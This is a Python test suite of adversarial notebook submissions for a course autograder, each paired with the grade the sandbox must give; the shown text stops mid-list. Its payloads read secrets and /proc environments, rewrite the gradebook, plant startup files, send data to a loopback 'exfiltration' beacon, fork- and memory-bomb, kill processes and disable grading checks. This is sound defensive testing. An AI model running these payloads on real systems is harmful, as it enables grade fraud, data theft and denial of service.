"""Crafted submissions, each with the outcome the grader must give it.

Every attack is one student's submission of one lesson, lesson 02 (three exercises, 7 points)
unless it says another. Most attackers leave the exercises blank, so any point they get is a
point they stole; the controls answer correctly and must get all the lesson's points, whatever
ran before them in the same sandbox. The code of an
attack may name the machine's real paths (``Target``): an attacker who knows the course's
layout is the worst case.
"""

import copy
import json
import re
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat

from grader.course import BEGIN, END, SOLUTIONS, nbgrader_metadata, read_lesson
from grader.demo import IGNORES_INTERRUPTS, MISTAKES, TAMPERING, practice_names, student_notebook
from helpers.hostile import hostile_metadata, markdown_payloads, payload_cells

LESSON = "02_scaled_dot_product"
MARKER = "adversarial-suite-process"  # in the command line of any process an attack starts


@dataclass(frozen=True)
class Target:
    """What an attacker is told about the machine it runs on."""

    root: str  # the repository: solutions/, src/, grader/
    workspace: str  # submissions, results, gradebook.db
    gradebook: str
    port: int  # a loopback port where the suite listens for exfiltration

    @property
    def beacon(self) -> str:
        return f"http://127.0.0.1:{self.port}/beacon"


def full(lesson: str) -> float:
    """All the points of ``lesson``."""
    return read_lesson(lesson).max_score


FULL = full(LESSON)


@dataclass(frozen=True)
class Attack:
    student: str
    what: str
    files: Callable[[Target], dict[str, bytes]]  # file name in the LMS zip -> bytes
    outcome: str = "graded"  # or several, "crashed or ungradable", where a race decides
    score: float = 0.0  # exactly the points it must get
    needs_human: bool | None = None  # flagged for a human (None: either is right)
    shows: str | None = None  # its kept output must say this: the defence, not luck, stopped it
    never: str | None = None  # what its kept output would say had the attack worked
    beside: dict[str, str] = field(default_factory=dict)  # files next to the notebook once
    # collected, as `nbgrader collect` brings them from the exchange (LMS zips keep notebooks)
    lesson: str = LESSON

    @property
    def correct(self) -> bool:
        """An honest, complete answer: denying it points is as wrong as crediting an attacker."""
        return self.score == full(self.lesson)


# ---------------------------------------------------------------- building notebooks

def notebook(correct: bool = False, extra: str | None = None, answers: dict | None = None,
             lesson: str = LESSON):
    if answers is None:
        answers = dict.fromkeys(practice_names(lesson)) if correct else {}
    return student_notebook(lesson, answers, textwrap.dedent(extra) if extra else None)


def file_of(student: str, node, lesson: str = LESSON) -> dict[str, bytes]:
    return {f"{student}_{lesson}.ipynb": nbformat.writes(copy.deepcopy(node)).encode()}


def is_test_cell(cell) -> bool:
    meta = nbgrader_metadata(cell)
    return bool(meta.get("grade")) and not meta.get("solution")


def is_answer_cell(cell) -> bool:
    return bool(nbgrader_metadata(cell).get("solution"))


def edited(correct: bool, change: Callable) -> Callable[[], object]:
    """A notebook whose cells went through ``change(cells) -> cells``."""
    def build():
        node = notebook(correct)
        node.cells = change(node.cells)
        return node
    return build


def attack(student: str, what: str, code: str | Callable[[Target], str] | None = None, *,
           correct: bool = False, build: Callable | None = None, lesson: str = LESSON,
           **expected) -> Attack:
    """An attack made of a notebook of ``lesson`` (blank or correct) with ``code`` in a cell of
    its own."""
    def files(target: Target) -> dict[str, bytes]:
        if build is not None:
            return file_of(student, build(), lesson)
        extra = code(target) if callable(code) else code
        return file_of(student, notebook(correct, extra, lesson=lesson), lesson)
    graded = correct and expected.get("outcome", "graded") == "graded"
    score = expected.pop("score", full(lesson) if graded else 0.0)
    return Attack(student, what, files, score=score, lesson=lesson, **expected)


def raw_file(student: str, what: str, data: Callable[[], bytes], name: str | None = None,
             **expected) -> Attack:
    return Attack(student, what, lambda target: {
        name or f"{student}_{LESSON}.ipynb": data()}, outcome="ungradable", **expected)


def valid_bytes() -> bytes:
    return next(iter(file_of("x", notebook(True)).values()))


def metadata_version_99() -> bytes:
    data = json.loads(valid_bytes())
    for cell in data["cells"]:
        cell["metadata"].get("nbgrader", {})["schema_version"] = 99
    return json.dumps(data).encode()


def with_points(cells, points: float):
    for cell in filter(is_test_cell, cells):
        cell.metadata["nbgrader"]["points"] = points
    return cells


def duplicated(cells):
    """Every answer and test cell twice, as copy and paste in JupyterLab leaves them."""
    doubled = []
    for cell in cells:
        doubled.append(cell)
        if is_test_cell(cell) or is_answer_cell(cell):
            twin = copy.deepcopy(cell)
            twin.id = f"{cell.id}-copy"
            doubled.append(twin)
    return doubled


def retyped(cells):
    return [nbformat.v4.new_markdown_cell(c.source, metadata=c.metadata) if is_test_cell(c)
            else c for c in cells]


def rewritten(cells):
    for cell in filter(is_test_cell, cells):
        cell.source = 'print("All checks passed: 7 / 7")'
    return cells


def with_kernelspec():
    node = notebook(True)
    node.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    return node


# ---------------------------------------------------------------- attack code

def reads_secrets(t: Target) -> str:
    secret_files = [f"{t.workspace}/instructor-notes.txt",
                    f"{t.workspace}/submitted/honest-a/{LESSON}/{LESSON}.ipynb",
                    f"{t.root}/solutions/{LESSON}/{LESSON}.ipynb"]
    return f"""
    import glob, os, sqlite3
    print("environment:", dict(os.environ))
    for path in {secret_files!r}:
        try:
            with open(path, "rb") as file:
                print("READ", path, file.read())
        except OSError as err:
            print("cannot read", path, err)
    try:
        with open({t.gradebook!r}, "rb"):  # sqlite would create a missing file
            print("READ", {t.gradebook!r}, sqlite3.connect({t.gradebook!r}).execute(
                "SELECT * FROM student").fetchall())
    except (OSError, sqlite3.Error) as err:
        print("cannot read", {t.gradebook!r}, err)
    for path in glob.glob({t.workspace!r} + "/**", recursive=True) + glob.glob("/proc/*/environ"):
        try:
            with open(path, "rb") as file:
                print("found", path, file.read()[:1000])
        except OSError as err:
            print("cannot open", path, err)
    """


def writes_gradebook(t: Target) -> str:
    return f"""
    import os, sqlite3
    try:
        if not os.path.isfile({t.gradebook!r}):
            raise FileNotFoundError({t.gradebook!r})
        db = sqlite3.connect({t.gradebook!r})
        db.execute("UPDATE grade SET manual_score = 1000, auto_score = 1000")
        db.commit()
        print("GRADEBOOK WRITTEN")
    except Exception as err:
        print("cannot write the gradebook:", repr(err))
    """


def forges_results(t: Target) -> str:
    results = f"{t.workspace}/results"
    return f"""
    import json, os
    for student in ("forges-results", "honest-a"):
        try:
            if not os.path.isdir({results!r}):
                raise FileNotFoundError({results!r})
            os.makedirs(os.path.join({results!r}, student), exist_ok=True)
            with open(os.path.join({results!r}, student, "{LESSON}.json"), "w") as file:
                json.dump({{"student": student, "score": 1000}}, file)
            print("RESULT FORGED", student)
        except OSError as err:
            print("cannot forge a result:", repr(err))
    """


def detached_process(t: Target) -> str:
    later = (f"import sqlite3, time; time.sleep(4); db = sqlite3.connect({t.gradebook!r}); "
             f"db.execute('UPDATE grade SET manual_score = 1000'); db.commit()")
    return f"""
    import os, subprocess, sys
    try:
        subprocess.Popen([sys.executable, "-c", {later!r}, "{MARKER}"], start_new_session=True)
        print("DETACHED PROCESS STARTED")
    except OSError as err:
        print("cannot start a process:", err)
    try:
        if os.fork() == 0:
            os.setsid()
            os.execv(sys.executable, [sys.executable, "-c", {later!r}, "{MARKER}"])
        print("FORKED")
    except OSError as err:
        print("cannot fork:", err)
    """


def startup_files(t: Target) -> str:
    return """
    import os, sys
    evil = ("import attention_course.checks as c\\n"
            "for n in dir(c):\\n"
            "    if n.startswith('check_'): setattr(c, n, lambda *a, **k: None)\\n"
            "print('STARTUP FILE RAN')\\n")
    folders = [os.path.expanduser("~/.ipython/profile_default/startup"),
               os.path.join(os.environ.get("IPYTHONDIR", "/nowhere"), "profile_default", "startup"),
               os.path.expanduser("~/.config/matplotlib"), "/tmp", os.getcwd(),
               *[p for p in sys.path if p]]
    for folder in folders:
        for name in ("00-evil.py", "sitecustomize.py", "usercustomize.py", "matplotlibrc"):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, name), "w") as file:
                    file.write(evil if name.endswith(".py") else "backend: evil\\n")
                print("planted", folder, name)
            except OSError as err:
                print("cannot plant", folder, name, err)
    """


def rewrites_reference(t: Target) -> str:
    return """
    import attention_course, attention_course.checks.student.observing as observing
    paths = [attention_course.__file__, observing.__file__, "/grader/runner.py",
             "/grader/confinement.py"]
    for path in paths:
        try:
            with open(path, "a") as file:
                file.write("\\nraise SystemExit('rewritten by a student')\\n")
            print("REWROTE", path)
        except OSError as err:
            print("cannot rewrite", path, err)
    """


def network(t: Target) -> str:
    return f"""
    import socket
    for host in ("127.0.0.1", "localhost", "::1"):
        try:
            with socket.create_connection((host, {t.port}), timeout=2) as connection:
                connection.sendall(b"exfiltrated by a submission")
            print("CONNECTED", host)
        except OSError as err:
            print("no network to", host, err)
    """


PATCH_REFERENCE = """
import sys
import torch
wrong = {  # the same mistakes as the answers below, put in the reference's place
    "softmax": lambda x, dim=-1: x.exp() / x.exp().sum(dim=dim, keepdim=True),
    "scaled_dot_product_attention": lambda q, k, v, scale=None: (
        q @ k.transpose(-2, -1) / q.shape[-1] @ v,
        (q @ k.transpose(-2, -1) / q.shape[-1]).softmax(-1)),
}
for name, module in list(sys.modules.items()):
    if name.startswith("attention_course"):
        for attribute, function in wrong.items():
            if hasattr(module, attribute):
                setattr(module, attribute, function)
"""

AGREEABLE = """
import torch

class Agreeable(torch.Tensor):
    \"\"\"A tensor that says it equals anything.\"\"\"
    def __eq__(self, other):
        return True
    def allclose(self, *args, **kwargs):
        return True
    def equal(self, *args, **kwargs):
        return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "assert_close", "eq"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
"""

AGREEABLE_ANSWERS = {
    "softmax": "return torch.zeros_like(x).as_subclass(Agreeable)",
    "scaled_dot_product_attention": "out = torch.zeros(query.shape[:-1] + value.shape[-1:])\n"
                                    "weights = torch.zeros(query.shape[:-1] + key.shape[-2:-1])\n"
                                    "return out.as_subclass(Agreeable), "
                                    "weights.as_subclass(Agreeable)",
}

REFERENCE_ANSWERS = {
    "softmax": "from attention_course.attention import softmax as reference\n"
               "return reference(x, dim)",
    "scaled_dot_product_attention": "import attention_course.attention as ref\n"
                                    "return ref.scaled_dot_product_attention(query, key, "
                                    "value, scale)",
}

SHADOW_PACKAGE = "print('SHADOW PACKAGE LOADED')\ndef __getattr__(name):\n    return print\n"
SHADOW_IN_CWD = """
import importlib, os, sys
os.makedirs("attention_course/checks", exist_ok=True)
for init in ("attention_course/__init__.py", "attention_course/checks/__init__.py"):
    with open(init, "w") as file:
        file.write("print('SHADOW PACKAGE LOADED')\\n"
                   "def __getattr__(name):\\n    return lambda *args, **kwargs: None\\n")
for name in [n for n in sys.modules if n.startswith("attention_course")]:
    del sys.modules[name]
import attention_course.checks
print("imported from", attention_course.__file__)
"""

MEMORY_BOMB = """
blocks = []
while True:
    blocks.append(bytes(2**30))  # a GiB at a time (zeroed lazily: fast), until refused
"""

TORCH_MEMORY_BOMB = "import torch\nhuge = torch.ones(2**31)  # 8 GiB"

DISK_FILL = """
import os
for folder in (os.getcwd(), os.path.expanduser("~"), "/tmp"):
    for n in range(10_000):
        with open(os.path.join(folder, f"fill-{n}"), "wb") as file:
            for _ in range(64):
                file.write(b"\\0" * 2**20)
"""

FORK_BOMB = """
import multiprocessing, os
try:
    multiprocessing.Process(target=print).start()
except OSError as err:
    print("no processes:", err)
while True:
    os.fork()
"""

HUGE_OUTPUT = """
import sys
line = "spam " * 200_000 + "\\n"  # 1 MB
for _ in range(300):
    sys.stdout.write(line)
    sys.stderr.write(line)
"""

STDERR_WARNINGS = """
import sys, warnings
warnings.warn("this function is deprecated", DeprecationWarning)
warnings.warn("a user warning", UserWarning)
for n in range(50):
    print(f"warning {n}: this goes to stderr", file=sys.stderr)
"""

KILLS_RUNNER = """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
"""

PTRACE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
print("ptrace:", libc.ptrace(PTRACE_ATTACH, os.getppid(), 0, 0), ctypes.get_errno())
try:
    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        print("READ THE RUNNER'S MEMORY", memory.read(16))
except OSError as err:
    print("cannot read the runner's memory:", err)
"""

READS_PIPES = """
import os
print("stdin:", os.read(0, 1 << 16))
for fd in range(3, 64):
    try:
        print("fd", fd, os.readlink(f"/proc/self/fd/{fd}"))
        os.write(fd, b'{"status": "finished", "reason": "", "files": {}}\\n')
    except OSError:
        pass
"""

LOCKS_ITS_FOLDERS = """
import os
for folder in ("locked/inner", os.path.expanduser("~/locked"), "/tmp/locked"):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "kept.txt"), "w") as file:
        file.write("still here")
    os.chmod(folder, 0)
    os.chmod(os.path.dirname(folder) or ".", 0o500)
"""

MANY_SLOW_CELLS = "import time\ntime.sleep(3)\n"

FAKE_RESULT_HOOK = """
def claim_success(*args, **kwargs):
    print("All checks passed: 7 / 7")
get_ipython().events.register("pre_run_cell", claim_success)
"""

SHOWTRACEBACK = """
get_ipython().showtraceback = lambda *args, **kwargs: print("ok: passed")
"""

CUSTOM_EXCEPTIONS = """
get_ipython().set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: None)
"""


# ---------------------------------------------------------------- families that go after the checks

BUILTIN_ANSWERS = {  # right answers from the built-ins the exercises forbid
    "softmax": "return torch.softmax(x, dim)",
    "scaled_dot_product_attention":
        "import torch.nn.functional as F\n"
        "scale = query.shape[-1] ** -0.5 if scale is None else scale\n"
        "weights = torch.softmax(query @ key.transpose(-2, -1) * scale, dim=-1)\n"
        "return F.scaled_dot_product_attention(query, key, value, scale=scale), weights",
}


def builtin_answers(wrap: Callable[[str], str]) -> dict[str, str | None]:
    return {name: body and wrap(body) for name, body in BUILTIN_ANSWERS.items()}


EMPTIES_FORBIDDEN = """
import attention_course.checks.student.observing as observing
from attention_course.checks.student.shortcuts import Forbidden
real_observe = observing.observe
observing.observe = lambda inputs, forbidden, *rest: real_observe(inputs, Forbidden(), *rest)
"""

SETTRACE_REWRITES = """
import sys, torch
def rewrite(frame, event, arg):
    if event == "return" and frame.f_code.co_name == "observe" and arg is not None:
        case = frame.f_locals["case"]
        if arg.error and len(case.args) == 1:
            dim = case.kwargs.get("dim", -1)
            arg.outputs, arg.error = (torch.softmax(case.args[0], dim),), None
    return rewrite
sys.settrace(rewrite)
"""

THREAD_PATCHES = """
import threading, time
import attention_course.checks.student.observing as observing
from attention_course.checks.student.shortcuts import Forbidden
real_observe = observing.observe
def keep_patching():
    while True:
        observing.observe = lambda inputs, forbidden, *rest: real_observe(inputs, Forbidden(),
                                                                           *rest)
        time.sleep(0.01)
threading.Thread(target=keep_patching, daemon=True).start()
"""

GC_REACHES_RUNNER = """
import gc
from attention_course.checks.student.shortcuts import Forbidden
for thing in gc.get_objects():
    if isinstance(thing, dict) and "serve_requests" in thing and "json" in thing:
        observing = thing["Setup"]  # the runner's own globals, found without importing it
        thing["_describe_error"] = lambda err: "all good"
for module in [m for m in gc.get_objects() if getattr(m, "__name__", "").endswith("observing")]:
    real_observe = module.observe
    module.observe = lambda inputs, forbidden, *rest: real_observe(inputs, Forbidden(), *rest)
"""

WRITES_RECORD = """
import json, os
fake = json.dumps({"outputs": None, "error": None, "shortcuts": [], "modified_inputs": [],
                   "grads": {}}).encode()
reply = json.dumps({"value": {"~": "dict", "items": {}}, "blob": 0}).encode() + b"\\n"
for grade_id in ("check_softmax", "check_scaled_dot_product_attention"):
    os.write(4, json.dumps({"at": grade_id}).encode() + b"\\n")
    os.write(4, json.dumps({"reply": [len(reply)] * 6}).encode() + b"\\n" + reply * 6)
os._exit(0)
"""

KEEPS_OUTPUTS = """
import torch
KEPT = []
def rewrite_kept(*args):
    for x, out in KEPT:
        out.copy_(torch.softmax(x, -1))
get_ipython().events.register("post_run_cell", rewrite_kept)
"""

KEEPING_ANSWERS = {"softmax": "out = torch.zeros_like(x)\nKEPT.append((x, out))\nreturn out"}

HIDES_IN_PLACE = """
import builtins, torch
builtins.zip = lambda *args, **kwargs: iter(())
torch.Tensor.clone = lambda self, *args, **kwargs: self
"""

IN_PLACE_ANSWERS = {"softmax": "x -= x.amax(dim=dim, keepdim=True)\nx.exp_()\n"
                               "return x / x.sum(dim=dim, keepdim=True)"}

ANSWERS_ONLY_THE_GRADER = """
import attention_course.checks.student.observing as observing, json
def garbage(request, namespace):
    return [b"garbage"] * len(observing.wire.loads(request)["cases"])
observing.answer = garbage
"""

INFLATES_RECORD = """
import attention_course.checks.student.observing as observing
observing.answer = lambda request, namespace: [b"\\0" * (30 << 20)] * 4
"""

COMPILED_HELPER = """
import torch
@torch.compile
def stable_softmax(x, dim):
    exps = (x - x.amax(dim=dim, keepdim=True)).exp()
    return exps / exps.sum(dim=dim, keepdim=True)
"""

LEAVES_A_PROFILER_ON = """
import cProfile
profiler = cProfile.Profile()
profiler.enable()  # and never disabled: every later cell is profiled
"""


def untitled() -> bytes:
    """What JupyterLab's "New notebook" saves: nothing of the lesson, no nbgrader cells."""
    return nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("")])).encode()


def with_a_stray(student: str, stray: Callable[[], bytes]) -> Callable:
    """A correct notebook and, after it in the same download, another notebook the student
    handed in (a zip of one time for all: the later in the download counts as the newer)."""
    return lambda target: {f"{student}_{LESSON}.ipynb": valid_bytes(),
                           f"{student}_Untitled.ipynb": stray()}


def windows_line_endings(cells):
    """Every cell saved by an editor that ends lines with CR LF."""
    for cell in cells:
        cell.source = cell.source.replace("\n", "\r\n")
    return cells


def setup_changed(cells):
    """The Colab setup cell (which reads sys.modules) with code of the student's, CR LF."""
    setup = next(c for c in cells if "google.colab" in c.source)
    setup.source = (setup.source + '\nprint(len(sys.modules), "modules")').replace("\n", "\r\n")
    return cells


# ---------------------------------------------------------------- round three

WATCHERS_OFF_BY_NAME = """
import contextlib
observing = __import__("attention_course.checks.student." + "observing", fromlist=["x"])
setattr(observing, "watch" + "_calls", lambda forbidden, called: contextlib.nullcontext(called))
"""

WATCHERS_OFF_BY_IMPORTLIB = """
import contextlib, importlib
observing = importlib.import_module("attention_course.checks.student." + "observing")
observing.watch_calls = lambda forbidden, called: contextlib.nullcontext(called)
"""

WATCHERS_OFF_IN_A_MAGIC = """%%time
import contextlib
import attention_course.checks.student.observing as observing
observing.watch_calls = lambda forbidden, called: contextlib.nullcontext(called)
"""


def solution_bodies(lesson: str) -> dict[str, str]:
    """The instructor's answer (the solution region of the source notebook, dedented) of every
    exercise of ``lesson``."""
    notebook = nbformat.read(SOLUTIONS / lesson / f"{lesson}.ipynb", as_version=4)
    region = re.compile(rf"^ *{re.escape(BEGIN)}\n(.*?)^ *{re.escape(END)}", re.M | re.S)
    return {nbgrader_metadata(c)["grade_id"]: textwrap.dedent(region.search(c.source).group(1))
            for c in notebook.cells if nbgrader_metadata(c).get("solution")}


def exec_from_base64(bodies: dict[str, str | None]) -> dict[str, str | None]:
    """Each answer run from base64: the source shows nothing of the code."""
    import base64

    def hidden(name: str, body: str) -> str:
        code = f"def _{name}(*a, **k):\n" + textwrap.indent(body, "    ") + "\n"
        blob = base64.b64encode(code.encode()).decode()
        return (f"import base64\nscope = dict(globals())\n"
                f"exec(base64.b64decode({blob!r}), scope)\nreturn scope['_{name}'](*a, **k)")
    return {name: body and hidden(name, body) for name, body in bodies.items()}


SHARED_MEMORY = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
segment = libc.shmget(0x5EC12E7, 1 << 20, 0o1666)  # a key every later student knows
print("shmget:", "SHARED ANSWERS FOUND" if segment >= 0 and {reads} else
      segment, ctypes.get_errno() and __import__("os").strerror(ctypes.get_errno()))
"""

LOWERS_RUNNER_LIMITS = """
import os, resource
resource.prlimit(os.getppid(), resource.RLIMIT_AS, (1 << 20, 1 << 20))
"""

SURROGATE_ERROR = {"softmax": "raise ValueError('a lone surrogate \\ud800 in the message')"}

ALIASED_RECORD = """
import attention_course.checks.student.observing as observing, json
blob = bytes(1 << 20)
tensor = {"~": "tensor", "dtype": "float32", "shape": [1 << 18], "at": 0}
fields = {"outputs": {"~": "tuple", "items": [tensor] * 1000}, "error": None, "shortcuts": [],
          "modified_inputs": [], "grads": {"~": "dict", "items": {}}}
reply = json.dumps({"value": {"~": "dict", "items": fields}, "blob": len(blob)}).encode()
observing.answer = lambda request, namespace: [reply + b"\\n" + blob] * len(
    observing.wire.loads(request)["cases"])
"""


def grade_id_list(cells):
    """A test cell whose nbgrader grade_id is a list: a notebook edited outside Jupyter."""
    test = next(filter(is_test_cell, cells))
    test.metadata["nbgrader"]["grade_id"] = [test.metadata["nbgrader"]["grade_id"]]
    return cells


L04, L07 = "04_multi_head", "07_inference_and_scale"
TILED_OVER_QUERIES = """
T, S = query.shape[-2], key.shape[-2]
scale = query.shape[-1] ** -0.5 if scale is None else scale
wide = torch.promote_types(query.dtype, torch.float32)
rows, lses = [], []
for start in range(0, T, block_size):
    scores = query[..., start:start + block_size, :].to(wide) @ key.to(wide).mT * scale
    if is_causal:
        place = torch.arange(start, start + scores.shape[-2])[:, None] + S - T
        scores = scores.masked_fill(torch.arange(S) > place, float("-inf"))
    rows.append(torch.softmax(scores, dim=-1) @ value.to(wide))
    lses.append(torch.logsumexp(scores, dim=-1))
return torch.cat(rows, dim=-2).to(value.dtype), torch.cat(lses, dim=-1)"""
SIZE_WATCH_OFF = """
from torch.utils._python_dispatch import _pop_mode_temporarily
with _pop_mode_temporarily():
    wide = torch.promote_types(query.dtype, torch.float32)
    scale = query.shape[-1] ** -0.5 if scale is None else scale
    scores = query.to(wide) @ key.to(wide).mT * scale
    if is_causal:
        T, S = scores.shape[-2:]
        scores = scores.masked_fill(~torch.ones(T, S, dtype=torch.bool).tril(S - T),
                                    float("-inf"))
    out = torch.softmax(scores, dim=-1) @ value.to(wide)
    return out.to(value.dtype), torch.logsumexp(scores, dim=-1)"""


def with_hostile_markup(student: str) -> Callable[[Target], dict[str, bytes]]:
    """A correct notebook carrying every payload of helpers/hostile.py for the formgrader's
    page: markdown, raw cells, attachments, outputs, cell and notebook metadata."""
    def files(target: Target) -> dict[str, bytes]:
        node = notebook(True)
        node.cells += payload_cells(target.beacon)
        hostile_metadata(node)
        return file_of(student, node)
    return files


def many_slow_cells():
    node = notebook(True)
    node.cells[3:3] = [nbformat.v4.new_code_cell(MANY_SLOW_CELLS) for _ in range(10)]
    return node


def answered(bodies: dict[str, str], extra: str | None = None, lesson: str = LESSON):
    return lambda: notebook(extra=extra, answers=bodies, lesson=lesson)


# ---------------------------------------------------------------- the suite, in grading order

ATTACKS = [
    attack("control-first", "a correct submission, graded first", correct=True),
    attack("edits-test-cells", "rewrites every test cell to print success",
           build=edited(False, rewritten)),
    attack("deletes-test-cells", "deletes every test cell",
           build=edited(False, lambda cells: [c for c in cells if not is_test_cell(c)])),
    attack("retypes-test-cells", "turns every test cell into markdown",
           build=edited(False, retyped)),
    attack("correct-no-test-cells", "correct, with every test cell deleted", correct=True,
           build=edited(True, lambda cells: [c for c in cells if not is_test_cell(c)])),
    attack("duplicated-cells", "correct, every answer and test cell twice", correct=True,
           build=edited(True, duplicated)),
    attack("inflated-points", "correct, test cells worth 1000 points each", correct=True,
           build=edited(True, lambda cells: with_points(cells, 1000))),
    attack("changed-kernelspec", "correct, with a bash kernelspec", correct=True,
           build=with_kernelspec),
    raw_file("malformed-json", "half a notebook", lambda: valid_bytes()[:5000]),
    raw_file("empty-file", "an empty file", lambda: b""),
    Attack("renamed-file", "a correct notebook under another name: known by its content",
           lambda target: {f"renamed-file_{LESSON} (1).ipynb": valid_bytes()}, score=FULL),
    raw_file("not-a-notebook", "JSON that is not a notebook", lambda: b'{"cells": 3}'),
    raw_file("metadata-99", "nbgrader metadata version 99", metadata_version_99),
    attack("infinite-loop", "correct, with an endless loop in a cell", "while True:\n    pass",
           correct=True, shows="KeyboardInterrupt"),
    attack("ignores-sigint", "correct, with a loop that ignores SIGINT", IGNORES_INTERRUPTS,
           correct=True, outcome="timed out"),
    attack("many-slow-cells", "correct, ten cells of 3 s each (past the budget)", correct=True,
           build=many_slow_cells, outcome="timed out"),
    attack("huge-output", "correct, printing 600 MB", HUGE_OUTPUT, correct=True,
           shows="[output cut: 600,"),
    attack("patched-showtraceback", "replaces the shell's showtraceback", SHOWTRACEBACK,
           needs_human=True),
    attack("custom-exceptions", "swallows every exception with set_custom_exc",
           CUSTOM_EXCEPTIONS, needs_human=True),
    attack("patched-comparisons", "patches torch's comparisons and the checks",
           TAMPERING["patches the comparisons and the checks"], needs_human=True),
    attack("erases-cells", "an input transformer that erases every later cell",
           TAMPERING["erases every later cell"], needs_human=True),
    attack("fake-result-hook", "a pre-run hook that prints success", FAKE_RESULT_HOOK,
           needs_human=True),
    attack("agreeable-tensors", "answers with a tensor subclass that equals anything",
           build=answered(AGREEABLE_ANSWERS, AGREEABLE)),
    attack("calls-the-reference", "answers by calling the course's reference",
           build=answered(REFERENCE_ANSWERS)),
    attack("patches-the-reference", "catalogued mistakes, and the reference patched to match",
           build=answered({n: MISTAKES[n][0] for n in practice_names(LESSON)},
                          PATCH_REFERENCE)),
    attack("shadow-beside", "an attention_course package next to the notebook", "import sys",
           beside={"attention_course/__init__.py": SHADOW_PACKAGE,
                   "attention_course/checks/__init__.py": SHADOW_PACKAGE},
           never="SHADOW PACKAGE LOADED"),
    attack("shadow-in-cwd", "writes an attention_course package into its folder, re-imports",
           SHADOW_IN_CWD, never="SHADOW PACKAGE LOADED"),
    attack("reads-secrets", "reads solutions, gradebook, workspace, other processes",
           reads_secrets, shows="cannot read", never="READ /"),
    attack("writes-gradebook", "sets every score in the gradebook to 1000", writes_gradebook,
           shows="cannot write the gradebook", never="GRADEBOOK WRITTEN"),
    attack("forges-results", "writes result files for itself and another student",
           forges_results, shows="cannot forge a result", never="RESULT FORGED"),
    attack("detached-process", "starts a detached process that rewrites grades later",
           detached_process, shows="cannot start a process", never="STARTED"),
    attack("startup-files", "plants IPython startup files, sitecustomize, matplotlibrc",
           startup_files, never="STARTUP FILE RAN"),
    attack("control-after-startup", "a correct submission, right after the startup files",
           correct=True, never="STARTUP FILE RAN"),
    attack("rewrites-reference", "rewrites the course package and the runner on disk",
           rewrites_reference, shows="Read-only file system", never="REWROTE"),
    attack("network", "connects to the grader's machine to exfiltrate", network,
           shows="no network to 127.0.0.1", never="CONNECTED"),
    attack("memory-bomb", "allocates a GiB at a time until refused", MEMORY_BOMB,
           shows="MemoryError"),
    attack("torch-memory-bomb", "asks torch for 8 GiB", TORCH_MEMORY_BOMB,
           shows="can't allocate memory"),
    attack("control-after-memory", "a correct submission, right after the memory bombs",
           correct=True),
    attack("disk-fill", "correct, then fills every writable folder", DISK_FILL, correct=True,
           shows="No space left on device"),
    attack("fork-bomb", "correct, then forks forever (its points held: it starts processes)",
           FORK_BOMB, correct=True, score=0.0, needs_human=True,
           shows="Operation not permitted"),
    attack("os-exit", "calls os._exit in the middle", "import os\nos._exit(0)",
           correct=True, outcome="crashed"),
    attack("stderr-warnings", "correct, with warnings on stderr", STDERR_WARNINGS, correct=True,
           shows="this goes to stderr"),
    attack("ptrace", "attaches to the runner, reads its memory", PTRACE,
           shows="cannot read the runner's memory", never="READ THE RUNNER"),
    attack("reads-pipes", "reads stdin, writes a forged answer to every descriptor",
           READS_PIPES, outcome="crashed", shows="stdin: b''"),
    attack("locks-its-folders", "leaves folders no one may enter or change",
           LOCKS_ITS_FOLDERS),
    attack("kills-the-runner", "tries to kill the process that supervises it, and everyone",
           KILLS_RUNNER, shows="Operation not permitted"),
    attack("control-after-killer", "a correct submission, right after the killer",
           correct=True),
    attack("empties-forbidden", "built-in answers, the shortcut rule's list emptied",
           build=answered(builtin_answers(str), EMPTIES_FORBIDDEN), needs_human=True),
    attack("settrace-rewrites", "a trace hook that rewrites failed observations as they return",
           SETTRACE_REWRITES, needs_human=True),
    attack("thread-patches", "a thread that keeps patching what observes the answers",
           build=answered(builtin_answers(str), THREAD_PATCHES), needs_human=True),
    attack("gc-reaches-runner", "the runner's globals reached through gc, nothing imported",
           build=answered(builtin_answers(str), GC_REACHES_RUNNER), needs_human=True),
    attack("writes-record", "writes a complete record to the grader's channel and exits: "
           "replies before any request, out of turn (or, if a request goes first, not an "
           "observation)", WRITES_RECORD, outcome="crashed or ungradable"),
    attack("keeps-outputs", "rewrites the tensors it returned in a later cell",
           build=answered(KEEPING_ANSWERS, KEEPS_OUTPUTS), needs_human=True),
    attack("hides-in-place", "patches zip and Tensor.clone to hide an in-place change",
           build=answered(IN_PLACE_ANSWERS, HIDES_IN_PLACE), needs_human=True),
    attack("torch-ops", "built-ins through torch.ops.aten overloads",
           build=answered({"softmax": "return torch.ops.aten._softmax.default(x, dim, False)"}),
           needs_human=True),
    attack("setprofile-none", "turns the profiler off, then calls the built-ins",
           build=answered(builtin_answers(lambda b: "import sys\nsys.setprofile(None)\n" + b)),
           needs_human=True),
    attack("builtin-in-a-thread", "calls the built-in in a thread",
           build=answered({"softmax": "from concurrent.futures import ThreadPoolExecutor\n"
                                      "with ThreadPoolExecutor(1) as pool:\n"
                                      "    return pool.submit(torch.softmax, x, dim).result()"}),
           needs_human=True),
    attack("torchscript", "calls the built-in from TorchScript",
           build=answered({"softmax": "scripted = torch.jit.script(lambda t, d: t.softmax(d))\n"
                                      "return scripted(x, dim)"}),
           needs_human=True),
    attack("garbage-record", "answers every check with bytes that are not a record",
           ANSWERS_ONLY_THE_GRADER, outcome="ungradable"),
    attack("inflates-record", "answers with 120 MB of zeros", INFLATES_RECORD,
           outcome="crashed"),
    attack("correct-float64", "correct, with torch.set_default_dtype(torch.float64) at the top",
           "import torch\ntorch.set_default_dtype(torch.float64)", correct=True,
           needs_human=False),
    attack("correct-compiled", "correct, its softmax compiled with @torch.compile",
           build=answered({"softmax": "return stable_softmax(x, dim)",
